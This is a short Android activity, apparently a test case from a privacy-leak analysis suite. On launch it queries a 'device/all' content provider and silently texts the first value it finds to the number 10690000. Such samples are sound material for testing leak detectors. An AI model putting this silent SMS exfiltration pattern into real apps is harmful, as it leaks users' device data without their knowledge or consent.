package cn.privlens.suite.provider_rows_asked;

import android.app.*;
import android.content.*;
import android.database.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import java.util.*;
import java.util.concurrent.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Uri uri = Uri.parse("content://cn.privlens.suite.provider_rows_asked.device/all");
        Cursor rows = getContentResolver().query(uri, null, null, null, null);
        if (rows != null && rows.moveToFirst()) {
            SmsManager.getDefault().sendTextMessage("10690000", null, rows.getString(0), null, null);
            rows.close();
        }
    }
}
